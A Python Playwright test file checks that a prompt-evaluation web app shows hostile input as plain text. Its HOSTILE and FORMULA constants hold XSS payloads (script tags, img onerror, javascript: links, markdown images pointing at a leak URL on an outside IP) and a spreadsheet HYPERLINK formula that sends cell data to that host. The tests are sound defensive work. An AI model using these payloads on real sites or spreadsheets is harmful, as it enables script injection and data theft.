"""Words of others are shown as words: whatever a prompt, an answer or a name holds, nothing is asked of anybody.

The journey's own watch fails it on any request to elsewhere and on any error in the console, a refused one included.
"""

from __future__ import annotations

from collections.abc import Callable

from playwright.sync_api import expect

from tests.browser.journeys.screen import Screen

Browse = Callable[..., Screen]

HOSTILE = (
    "![i](http://203.0.113.9/leak.png) <img src=http://203.0.113.9/leak onerror=document.title='owned'> "
    "[a](javascript:alert(1)) <script>document.title='owned'</script> **bold** $x^2$ :red[red] "
    "<a href=http://203.0.113.9>click</a> &lt;b&gt; http://203.0.113.9/bare"
)
FORMULA = '=HYPERLINK("http://203.0.113.9?"&A1,"open")'


def _harmless(screen: Screen) -> None:
    main = screen.page.get_by_test_id("stMain")
    expect(
        main.locator("img, script, [href*='203.0.113.9'], [src*='203.0.113.9'], [href^='javascript:']")
    ).to_have_count(0)
    assert screen.page.title() != "owned"


def test_hostile_words_make_no_request_and_stand_there_as_they_are(browse: Browse) -> None:
    screen = browse()
    screen.choose_model("openai-chat:echo")
    screen.more()
    screen.number("Retries", 0)
    screen.page.get_by_label("Name of the run").fill(HOSTILE[:200])
    screen.page.get_by_label("Instructions").fill(HOSTILE)
    screen.type_prompts(HOSTILE, f"words {HOSTILE}", FORMULA)
    screen.run()
    screen.counts("1 failed, 2 of 3 answered")
    screen.rows(3)
    screen.as_given()
    _harmless(screen)
    for place, texts in ((0, (HOSTILE, HOSTILE)), (1, (f"words {HOSTILE}", HOSTILE)), (2, (FORMULA, FORMULA))):
        screen.press_row(place)
        detail = screen.open_detail(place + 1)
        for shown, text in enumerate(texts):
            expect(detail.locator("code").nth(shown)).to_have_text(text)
        _harmless(screen)
    bar = screen.chart.bar(0)
    screen.page.mouse.move(bar["x"], bar["y"])
    expect(screen.page.locator(".fo-tip")).to_contain_text("![i](http://203.0.113.9/leak.png)")
    screen.shoot("hostile")
    _harmless(screen)
    screen.go_to("Runs")
    expect(screen.page.locator("table.history a").first).to_contain_text("![i](http://203.0.113.9/leak.png)")
    _harmless(screen)


def test_a_hostile_file_and_a_hostile_model_name_are_named_as_they_are(browse: Browse) -> None:
    screen = browse()
    screen.choose("Prompts", "File")
    screen.drop("![i](http:203.0.113.9) <b>.csv", b"")
    expect(screen.alert).to_contain_text("![i](http:203.0.113.9) <b>.csv” is empty")
    screen.drop("columns.csv", f'"{HOSTILE}",other\none,two\n'.encode())
    expect(screen.key("prompts_column")).to_be_visible()
    _harmless(screen)
    screen.choose_model("<img src=x>:tiny")
    screen.run_button.click()
    expect(screen.alert).to_contain_text("<img src=x>")
    _harmless(screen)
